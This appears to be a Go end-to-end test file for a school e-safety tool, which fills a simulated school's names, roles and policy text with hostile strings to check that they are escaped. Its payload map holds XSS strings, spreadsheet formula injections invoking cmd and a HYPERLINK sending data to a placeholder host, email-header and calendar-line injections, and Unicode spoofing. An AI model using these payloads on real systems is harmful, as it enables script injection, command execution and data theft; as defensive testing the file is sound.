package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"esafetybot/internal/policy"
	"esafetybot/internal/sim/generate"
	"esafetybot/internal/sim/server"
	"esafetybot/internal/sim/world"
	"esafetybot/internal/store/memory"
)

// hostileTexts is what may stand in any name, title or comment. What would become markup has the word "x-owned" as an element or attribute, so that it is known by it wherever it got through.
var hostileTexts = map[string]string{
	"a script":              `<script>document.title="owned"</script><x-owned>`,
	"out of an attribute":   `"><img src=x onerror=alert(1) x-owned="1">`,
	"out of single quotes":  `' onmouseover='alert(1)' x-owned='1`,
	"without quotes":        "x onfocus=alert(1) x-owned=1 autofocus",
	"out of an element":     `</title></textarea></style></option></select><iframe src="javascript:alert(1)"></iframe><x-owned>`,
	"a comment's beginning": "<!-- <x-owned> --!> <![CDATA[",
	"entities":              `&lt;x-owned&gt;&#60;x-owned&#62;&quot; x-owned=&quot;1`,
	"a javascript: link":    "javascript:alert(1)//https://owned.example/",
	"a form and a style":    `<form action="https://owned.example/"><button>Sign in</button></form><style>main{display:none}</style><x-owned>`,
	"an override":           "\u202Egnp.exe \u202Dabc",
	"isolates":              "a\u2066b\u2067c\u2069\u2069\u2069d\u202A\u202B\u202Ce",
	"marks of direction":    "\u200F\u061C\u200Etomorrow!",
	"from right to left":    "שלום (1) עולם!",
	"zero width":            "ze\u200B\uFEFF\u2060\u00AD\u180Ero\U000E0041",
	"control characters":    "\x00\x07\x1b[31mred\x7f\u0085\x9b",
	"a header":              "one\r\nBcc: owned@owned.example\r\nX-Owned: 1\r\n\r\n<x-owned>",
	"lines":                 "one\ntwo\u2028three\u2029four\vfive\f",
	"marks":                 "Z" + strings.Repeat("\u0300\u0336\u0489", 300),
	"long":                  strings.Repeat("W", 10000),
	"many words":            strings.Repeat("long ", 2000),
	"=":                     `=HYPERLINK("https://owned.example/?"&A1,"open")`,
	"+":                     "+1+cmd|' /C calc'!A0",
	"-":                     "-2+3+cmd|' /C calc'!A0",
	"@":                     "@SUM(1+1)*cmd|' /C calc'!A0",
	"a tab and =":           "\t=1+1",
	"CR and =":              "\r=1+1",
	"hidden =":              "\u200B\u00A0=1+1",
	"wide =":                "＝1+1",
	"a quote and =":         "\"\r\n=1+1,\",=1+1",
	"a template":            `{{.Token}}{{template "x"}}{{define "frame"}}${7*7}§p§§h1§`,
	"an ics line":           "x\r\nEND:VEVENT\r\nX-OWNED:1",
}

// namer gives names hostile texts, one after the other; what had the same name before has the same after. The old name stands behind, so that pupils' names are still found in titles.
type namer struct {
	texts []string
	had   map[string]string
	next  int
	given map[string]map[string]bool // where, as FILE KEY, and what of hostileTexts
}

func newNamer() *namer {
	return &namer{texts: slices.Sorted(maps.Keys(hostileTexts)), had: map[string]string{}, given: map[string]map[string]bool{}}
}

// name is the hostile name of what is called plain.
func (n *namer) name(where, plain string) string {
	which, ok := n.had[plain]
	if !ok {
		which = n.texts[n.next%len(n.texts)]
		n.had[plain] = which
		n.next++
	}
	if n.given[where] == nil {
		n.given[where] = map[string]bool{}
	}
	n.given[where][which] = true
	return hostileTexts[which] + " " + plain
}

// named are the keys of a tenant's files under which names, titles and words stand.
var namedKeys = regexp.MustCompile(`^(fullName|givenName|familyName|displayName|title|text|description|content|displayText|model|annotatedAssetId|section|what|where|note|why)$`)

// nameKeyed are the files in which "name" is somebody's word for something, and no word of Google's.
var nameKeyed = []string{"groups.json", "groupsettings.json", "courses.json", "drives.json", "files.jsonl", "blogs.json", "mobiledevices.json"}

// loggedKeys are the parameters of audit records that hold names.
var loggedKeys = []string{"doc_title", "course_title", "app_name", "post_title", "attachment_title"}

func (n *namer) walk(file, key string, v any) any {
	switch v := v.(type) {
	case map[string]any:
		if name, _ := v["name"].(string); slices.Contains(loggedKeys, name) {
			if value, ok := v["value"].(string); ok {
				v["value"] = n.name(file+" "+name, value)
			}
			return v
		}
		for _, k := range slices.Sorted(maps.Keys(v)) {
			v[k] = n.walk(file, k, v[k])
		}
	case []any:
		for i := range v {
			v[i] = n.walk(file, key, v[i])
		}
	case string:
		if v != "" && (namedKeys.MatchString(key) || key == "name" && slices.Contains(nameKeyed, file)) {
			return n.name(file+" "+key, v)
		}
	}
	return v
}

// hostileWorld is a generated school in which everything that has a name carries a hostile one.
func hostileWorld(t *testing.T, sc *generate.School, n *namer) *world.World {
	t.Helper()
	do := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	dir := t.TempDir()
	do(sc.World.Save(dir))
	files, err := os.ReadDir(dir)
	do(err)
	for _, f := range files {
		name := f.Name()
		data, err := os.ReadFile(filepath.Join(dir, name))
		do(err)
		var out bytes.Buffer
		enc := json.NewEncoder(&out)
		enc.SetEscapeHTML(false)
		switch {
		case name == "tenant.json" || name == "policies.json" || strings.HasPrefix(name, "usage"):
			continue
		case strings.HasSuffix(name, ".json"), strings.HasSuffix(name, ".jsonl"):
			dec := json.NewDecoder(bytes.NewReader(data))
			dec.UseNumber()
			for dec.More() {
				var v any
				do(dec.Decode(&v))
				do(enc.Encode(n.walk(name, "", v)))
			}
		default:
			continue // rolls are the school's own
		}
		do(os.WriteFile(filepath.Join(dir, name), out.Bytes(), 0o600))
	}
	w, err := world.Load(dir)
	do(err)
	n.units(w)
	n.role(t, w)
	return w
}

// units moves staff into org units below their own with hostile names, which have no slash since that parts units.
func (n *namer) units(w *world.World) {
	moved := 0
	for _, u := range w.Users() {
		if u.OrgUnitPath != "/Staff" {
			continue
		}
		name := strings.ReplaceAll(n.name("orgunits.json name", "Unit "+strconv.Itoa(moved)), "/", "∕")
		moved++
		w.AddOrgUnit(&world.OrgUnit{OrgUnitID: fmt.Sprintf("id:03hostile%d", moved), OrgUnitPath: "/Staff/" + name, Name: name, ParentOrgUnitID: w.UnitOf("/Staff").OrgUnitID, ParentOrgUnitPath: "/Staff"})
		u.OrgUnitPath = "/Staff/" + name
	}
}

// role gives people roles of an administrator with hostile names.
func (n *namer) role(t *testing.T, w *world.World) {
	t.Helper()
	given := 0
	for _, u := range w.Users() {
		if given >= len(n.texts) || u.Suspended || !strings.HasPrefix(u.OrgUnitPath, "/Staff") {
			continue
		}
		given++
		r := &world.Role{RoleID: strconv.Itoa(5550000 + given), RoleName: n.name("roles.json roleName", "Role "+strconv.Itoa(given))}
		w.AddRole(r)
		if _, err := w.AssignRole(r.RoleID, u.PrimaryEmail, "it@school.example"); err != nil {
			t.Fatal(err)
		}
	}
}

// hostileSchool serves it, with a policy that asks for whatever the program can do, and in which the names are hostile, too.
func hostileSchool(t *testing.T) (*campus, *watch, *namer) {
	t.Helper()
	sc, err := generate.Generate(generate.Options{Pupils: 30, Seed: 4})
	if err != nil {
		t.Fatal(err)
	}
	n := newNamer()
	text := n.policy(t, sc.Policies[generate.Classroom])
	s := serve(t, hostileWorld(t, sc, n), map[string]string{generate.Classroom: text}, server.Options{AutoLogin: true, OIDCClients: []world.OIDCClient{{ClientID: "review", ClientSecret: "secret"}}})
	w := s.watches[0]
	if w.site, err = memory.Open(); err != nil {
		t.Fatal(err)
	}
	return s, w, n
}

// policy gives a policy hostile names, and lets it ask for changes, records, ClassDojo and lists in mails.
func (n *namer) policy(t *testing.T, text string) string {
	t.Helper()
	text = regexp.MustCompile(`(?m)\b(?:name: (?:"[^"\n]*"|[^",{}\n\[\]]+)|(?:says|source): .+$)`).ReplaceAllStringFunc(text, func(l string) string {
		key, value, _ := strings.Cut(l, ": ")
		for _, kept := range []string{"Autumn", "Spring", "Summer", "Name", "Governors", "Supply"} { // terms and columns are the program's words, and kinds of people are ids
			if strings.Contains(value, kept) {
				return l
			}
		}
		name := n.name("policy "+key, strings.Trim(value, `"`))
		if r := []rune(name); key != "name" && len(r) > 300 { // what a clause says is the school's own sentence, and shown in full
			name = string(r[:300])
		}
		quoted, err := json.Marshal(name)
		if err != nil {
			t.Fatal(err)
		}
		return key + ": " + string(quoted)
	})
	for before, after := range map[string]string{
		"attach_csv: false": "attach_csv: true",
		"\nclauses:\n":      "\nclassdojo:\n  classes:\n    - {name: \"5 Ash\", id: 5f1e2d3c4b5a69788796a5b4, teachers: [bursar@school.example]}\n  look_within: 10 school days\n\nclauses:\n",
		"\nnot_seen:": "\n  - id: D1\n    says: ClassDojo is the channel to parents.\n    deals_with_it: esafety_officer\n    met_by: [{check_in: class-dojo, ask: class_teacher, every: half term}]\n" +
			"  - id: D2\n    says: Visitors sign before they get access.\n    deals_with_it: esafety_officer\n    met_by: [{record: visitors, due: 5 school days}, {record: access, due: 5 school days}]\n\nnot_seen:",
	} {
		if strings.Count(text, before) != 1 {
			t.Fatalf("the policy has another form: it has %q %d times", before, strings.Count(text, before))
		}
		text = strings.Replace(text, before, after, 1)
	}
	return outcome(outcome(text, policy.Propose, "leaver-active", "not-on-roll", "outside-recovery", "outside-person"), policy.Fix, "risky-app", "public")
}
